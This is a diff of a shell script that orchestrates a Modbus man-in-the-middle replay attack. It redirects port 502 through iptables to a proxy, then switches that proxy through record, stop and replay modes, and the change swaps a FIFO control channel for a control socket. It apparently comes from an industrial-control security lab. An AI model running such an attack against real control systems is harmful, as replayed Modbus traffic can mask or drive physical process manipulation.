@@ -127,14 +127,10 @@ echo -e "${GREEN} iptables rules configured (redirect port 502 -> $PROXY_PORT)${
 
 echo -e "\n${YELLOW}[3/6] Starting Modbus proxy on port $PROXY_PORT...${NC}"
 
-FIFO="/tmp/mitm_input"
+CONTROL_SOCKET="/tmp/mitm_control.sock"
 
-# Remove existing FIFO and create a new one
-rm -f "$FIFO"
-mkfifo "$FIFO"
-
-# Start the Modbus proxy in background (connected to FIFO for control)
-tail -f "$FIFO" | python3 mitm_replay_attack.py --interactive --mode passthrough > /root/logs/proxy.log 2>&1 &
+# Start the Modbus proxy in background (controlled through its control socket)
+python3 mitm_replay_attack.py --mode passthrough --control-socket "$CONTROL_SOCKET" > /root/logs/proxy.log 2>&1 &
 PROXY_PID=$!
 
 # Wait for the proxy to start
@@ -181,17 +177,17 @@ else
 fi
 
 echo "[INFO] Switching mitm to RECORD mode"
-echo "record" > "$FIFO"
+python3 control_plane.py --socket "$CONTROL_SOCKET" record > /dev/null
 
 sleep 15
 
 echo "[INFO] Stopping recording"
-echo "stop" > "$FIFO"
+python3 control_plane.py --socket "$CONTROL_SOCKET" stop > /dev/null
 
 sleep 3
 
 echo "[INFO] Switching to replay mode"
-echo "replay" > "$FIFO"
+python3 control_plane.py --socket "$CONTROL_SOCKET" replay > /dev/null
 
 
 